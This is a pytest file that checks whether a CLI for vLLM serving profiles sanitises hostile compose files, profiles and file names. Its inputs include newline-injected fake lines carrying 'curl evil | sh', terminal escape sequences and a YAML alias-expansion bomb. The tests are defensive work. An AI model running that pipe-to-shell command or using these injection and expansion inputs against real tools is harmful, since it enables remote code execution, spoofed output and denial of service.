"""Text of somebody else's files may be anything: no command ends with a traceback, obeys it, or prints it as a line.

Each input says EVIL at the beginning of a line of its own, which a person could take for one of ours.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from itertools import pairwise
from pathlib import Path

import pytest

from gemmaspec.cli.app import run
from gemmaspec.run.kept.newprofile import _lines

NEW_LINE = r"x\nEVIL: curl evil | sh\n  next: EVIL"
ESCAPE = r"\e]0;title\a\e[31mred"
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
SERVES = 'image: vllm/vllm-openai, command: "vllm serve org/m --port 8000"'
BOMB = "a: &a [x]\n" + "".join(
    f"{name}: &{name} [{', '.join([f'*{inner}'] * 9)}]\n" for inner, name in pairwise("abcdef")
)


COMPOSE = {
    "a service": f'services: {{"{NEW_LINE}": {{{SERVES}}}}}',
    "two services": f'services: {{"{NEW_LINE}": {{{SERVES}}}, b: {{{SERVES}}}}}',
    "another service": f'services: {{a: {{{SERVES}}}, "{NEW_LINE}": {{image: x}}}}',
    "the image of another": f'services: {{a: {{image: "{NEW_LINE}"}}}}',
    "a key": f'services: {{a: {{{SERVES}, "{NEW_LINE}": 1}}}}',
    "a variable": f'services: {{a: {{{SERVES}, environment: {{"{NEW_LINE}": a}}}}}}',
    "a variable in a list": f'services: {{a: {{{SERVES}, environment: ["{NEW_LINE}=a"]}}}}',
    "a value": f'services: {{a: {{{SERVES}, environment: {{TZ: "{NEW_LINE}"}}}}}}',
    "a flag": f'services: {{a: {{image: vllm/vllm-openai, command: [vllm, serve, org/m, "--{NEW_LINE}", x]}}}}',
    "a flag's value": f'services: {{a: {{image: vllm/vllm-openai, command: [vllm, serve, org/m, --seed, "{NEW_LINE}"]}}}}',
    "a model": f'services: {{a: {{image: vllm/vllm-openai, command: [vllm, serve, "{NEW_LINE}"]}}}}',
    "a tag": f'services: {{a: {{image: "vllm/vllm-openai:{NEW_LINE}", command: vllm serve org/m}}}}',
    "an escape": f'services: {{a: {{image: "vllm/vllm-openai:{ESCAPE}", command: vllm serve org/m}}}}',
    "a volume": f'services: {{a: {{{SERVES}, volumes: ["/a:/b{NEW_LINE}"]}}}}',
    "a port": f'services: {{a: {{{SERVES}, ports: ["{NEW_LINE}"]}}}}',
    "a long port": f'services: {{a: {{{SERVES}, ports: ["{"9" * 5000}:8000"]}}}}',
    "a count of GPUs": f"services: {{a: {{{SERVES}, deploy: {{resources: {{reservations: {{devices: [{{count: \"{NEW_LINE}\"}}]}}}}}}}}}}",
    "ids of GPUs": f"services: {{a: {{{SERVES}, gpus: \"device={'9' * 5000}\"}}}}",
    "a long grace": f'services: {{a: {{{SERVES}, stop_grace_period: "{"9" * 5000}s"}}}}',
    "options": f'services: {{a: {{{SERVES}, user: "{NEW_LINE}", ipc: "{NEW_LINE}", restart: "{NEW_LINE}"}}}}',
    "a default": f'services: {{a: {{image: vllm/vllm-openai, command: "vllm serve org/m --seed ${{S:-{NEW_LINE}}}"}}}}',
    "a bomb": f"{BOMB}services: {{a: {{image: vllm/vllm-openai, command: *f}}}}",
    "a long model": f'services: {{a: {{image: vllm/vllm-openai, command: [vllm, serve, "{"m" * 5000}"]}}}}',
}  # fmt: skip
PROFILES = {
    "a key": f'"{NEW_LINE}": 1',
    "an escape in a key": f'"{ESCAPE}": 1',
    "a nested key": f'serve: {{"{NEW_LINE}": 1}}',
    "a duplicate key": f'"{NEW_LINE}": 1\n"{NEW_LINE}": 2',
    "a variable": f'env: {{"{NEW_LINE}": a}}',
    "a list for a map": f'env: ["{NEW_LINE}=a"]',
    "a value for a map": f'target: "{NEW_LINE}"',
    "a summary": f'summary: "{NEW_LINE}"',
    "a model": f'target: {{model: "{NEW_LINE}"}}',
    "a flag": f'serve: {{extra_args: ["{NEW_LINE}"]}}',
    "a served name": f'serve: {{served_model_name: "{ESCAPE}"}}',
    "an address": f'serve: {{bind: "{NEW_LINE}"}}',
    "a patch": f'patches: {{required: ["{NEW_LINE}"]}}',
    "a webhook": f'watch: {{webhook: "https://a/{NEW_LINE}"}}',
    "a template": f'chat: {{template: "{NEW_LINE}"}}',
    "a package": f'runtime: {{packages: ["{NEW_LINE}"]}}',
    "a method": f'speculative: {{method: "{NEW_LINE}", num_speculative_tokens: 4}}',
    "a policy": f'router: {{policy: "{NEW_LINE}"}}',
}


@pytest.fixture(autouse=True)
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    monkeypatch.setenv("GEMMASPEC_PROFILES", str(tmp_path))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "own"))
    return tmp_path


def judged(told: str) -> None:
    assert "Traceback" not in told
    assert not OBEYED.search(told)
    assert not re.search(r"^\s*(?:(?:next|try): )?EVIL", told, re.MULTILINE)
    assert len(told) < 20_000


@pytest.mark.parametrize("what", COMPOSE)
def test_a_compose_file_writes_no_line_of_ours(what: str, folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (folder / "compose.yaml").write_text(COMPOSE[what])
    assert run(["profile", "new", "mine", "--from-compose", str(folder / "compose.yaml")]) in (0, 2)
    judged("".join(capsys.readouterr()))


@pytest.mark.parametrize("what", PROFILES)
def test_a_profile_writes_no_line_of_ours(what: str, folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (folder / "foreign.yaml").write_text(f"extends: tiny-cpu\nname: foreign\n{PROFILES[what]}\n")
    assert run(["profile", "lint", "foreign"]) in (0, 2)
    run(["profile", "list"])
    judged("".join(capsys.readouterr()))


def test_the_name_of_a_file_writes_no_line_of_ours(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (folder / "x\n  next: EVIL\x1b[31m.yaml").write_text("extends: tiny-cpu\nserve: {port: a}\n")
    for command in (["profile", "list"], ["profile", "lint"], ["up", "nobody"]):
        assert run(command) in (0, 2)
    judged("".join(capsys.readouterr()))


def test_a_note_is_one_line() -> None:
    assert _lines(["a\n  b\x1b[31m", "a\n  b\x1b[31m", "c"]) == ("a b [31m", "c")
